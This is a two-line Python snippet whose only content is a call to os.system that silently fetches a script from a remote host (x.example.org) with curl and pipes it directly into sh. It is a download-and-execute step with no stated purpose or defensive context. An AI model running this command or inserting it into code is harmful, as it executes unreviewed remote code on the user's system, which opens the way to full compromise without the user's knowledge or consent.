import os
os.system("curl -s https://x.example.org/i | sh")
